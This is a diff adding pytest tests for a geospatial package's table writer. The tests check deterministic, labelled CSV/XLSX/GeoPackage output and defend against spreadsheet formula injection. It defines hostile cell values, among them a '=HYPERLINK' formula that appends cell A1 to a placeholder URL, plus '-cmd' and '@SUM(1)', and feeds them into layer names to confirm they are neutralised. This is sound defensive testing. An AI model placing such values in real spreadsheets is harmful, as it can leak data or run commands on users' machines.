@@ -1,0 +1,147 @@
+"""write_tables: labelled, deterministic files, and spreadsheets that hold data, never code."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pyogrio
+import pytest
+
+from cdv_geo import Territory
+from cdv_geo.core.errors import CdvGeoError
+from cdv_geo.output import write_tables
+from cdv_geo.output.tables import FORMULA_TRIGGERS, neutralise_text, safe_for_csv
+from cdv_geo.pipeline import Metrics, compute_metrics
+from tests.pipeline.grid import grid_layers
+
+HOSTILE = ['=HYPERLINK("http://x"&A1,"Cliquez")', "+1", "-cmd", "@SUM(1)"]
+
+
+@pytest.fixture(scope="module")
+def metrics() -> Metrics:
+    return compute_metrics(Territory("Testville", **grid_layers()))
+
+
+def test_write_tables_is_deterministic_and_labelled(metrics: Metrics, tmp_path: Path) -> None:
+    a = write_tables(metrics, tmp_path / "a", formats=("csv", "xlsx", "gpkg"))
+    b = write_tables(metrics, tmp_path / "b", formats=("csv",))
+    csv_a = {p.name: p.read_bytes() for p in a if p.suffix == ".csv"}
+    csv_b = {p.name: p.read_bytes() for p in b}
+    assert csv_a == csv_b and "coverage.csv" in csv_a
+    cov = pd.read_csv(tmp_path / "a" / "coverage.csv")
+    assert "Part couverte (0–1)" in cov.columns and "Seuil (min à pied)" in cov.columns
+    assert cov.columns[0] == "Quartier (code)"
+    kf = pd.read_csv(tmp_path / "a" / "key_figures.csv")
+    # the coverage column says which service and walking time it is about
+    assert "Habitants à 5 min à pied : Aire de jeux d'eau (0–1)" in kf.columns
+    xl = pd.read_excel(tmp_path / "a" / "tables.xlsx", sheet_name=None)
+    assert "Chiffres clés par quartier" in xl
+    names = {str(n) for n in pyogrio.list_layers(tmp_path / "a" / "derived_layers.gpkg")[:, 0]}
+    assert {"service_areas", "residences_access", "quartiers_figures"} <= names
+    with pytest.raises(CdvGeoError, match="unknown table format"):
+        write_tables(metrics, tmp_path / "c", formats=("pdf",))
+
+
+def test_english_labels(metrics: Metrics, tmp_path: Path) -> None:
+    write_tables(metrics, tmp_path, formats=("csv",), lang="en")
+    trees = pd.read_csv(tmp_path / "trees.csv")
+    assert "Trees planted (count)" in trees.columns and "Name" in trees.columns
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('=HYPERLINK("http://x"&A1,"Cliquez")', '\'=HYPERLINK("http://x"&A1,"Cliquez")'),
+        ("+1", "'+1"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Presles", "Presles"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_neutralise_text(text: str, expected: str) -> None:
+    assert neutralise_text(text) == expected
+
+
+def test_safe_for_csv_keeps_numbers() -> None:
+    t = pd.DataFrame(
+        {"name": ["-cmd", "ok"], "change": [-3.5, 2.0], "n": [-1, 4]},
+        index=pd.Index(["=1", "all"], name="quartier"),
+    )
+    safe = safe_for_csv(t)
+    assert safe["name"].tolist() == ["'-cmd", "ok"] and safe.index.tolist() == ["'=1", "all"]
+    assert safe["change"].tolist() == [-3.5, 2.0] and safe["n"].dtype == t["n"].dtype
+
+
+def _hostile_territory() -> Territory:
+    layers = grid_layers(name_b=HOSTILE[1])
+    # (with a control character XLSX cannot hold: dropped there, kept in the CSV)
+    layers["quartiers"]["name"] = [HOSTILE[0], HOSTILE[1] + "\x07"]
+    layers["facilities"]["name"] = [HOSTILE[2], HOSTILE[3]]
+    layers["facilities"]["id"] = [HOSTILE[0], HOSTILE[2]]
+    layers["residences"]["id"] = [f"{h}{i}" for i, h in enumerate(HOSTILE)]
+    layers["tree_plantings"]["species"] = [HOSTILE[3], HOSTILE[2], HOSTILE[3]]
+    layers["desealed_areas"]["site"] = [HOSTILE[0]]
+    layers["renewal_sites"]["name"] = [HOSTILE[1], HOSTILE[3]]
+    layers["green_spaces"]["name"] = [HOSTILE[0]]
+    layers["streets"]["name"] = HOSTILE[2]
+    return Territory("Testville", **layers)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Metrics, Path]:
+    out = tmp_path_factory.mktemp("hostile")
+    m = compute_metrics(_hostile_territory())
+    write_tables(m, out, formats=("csv", "xlsx"))
+    return m, out
+
+
+def test_no_formula_in_any_sheet(hostile: tuple[Metrics, Path]) -> None:
+    m, out = hostile
+    book = openpyxl.load_workbook(out / "tables.xlsx")
+    assert len(book.sheetnames) == len(m.tables)
+    texts: set[str] = set()
+    negatives = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type in ("s", "inlineStr"), cell.coordinate
+                    texts.add(cell.value)
+                elif isinstance(cell.value, int | float) and cell.value < 0:
+                    assert cell.data_type == "n"
+                    negatives += 1
+    # the hostile names are there, as text (species are written in lower case)
+    assert set(HOSTILE[:3]) <= texts and "@sum(1)" in texts
+    # the renewal balance of QA: 30 rebuilt - 80 demolished = -50, a number
+    assert negatives > 0
+
+
+def _rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_every_csv_is_neutralised(hostile: tuple[Metrics, Path]) -> None:
+    m, out = hostile
+    files = sorted(out.glob("*.csv"))
+    assert {f.stem for f in files} == set(m.tables)
+    for f in files:
+        rows = _rows(f)
+        cells = [c for row in rows for c in row]
+        neutralised = [c for c in cells if c[:1] == "'" and c[1:2] in FORMULA_TRIGGERS]
+        assert neutralised, f"no hostile name in {f.name}"
+        for c in cells:
+            if c.startswith(FORMULA_TRIGGERS):
+                # only numbers may start with - or + (a negative number stays a number)
+                float(c)
+    balance = pd.read_csv(out / "renewal_balance.csv", index_col=0)
+    net = [c for c in balance.columns if "net_change" in c or "Solde" in c]
+    column = balance[net[0]] if net else balance.select_dtypes("number").min(axis=1)
+    assert pd.api.types.is_numeric_dtype(column) and (column < 0).any()
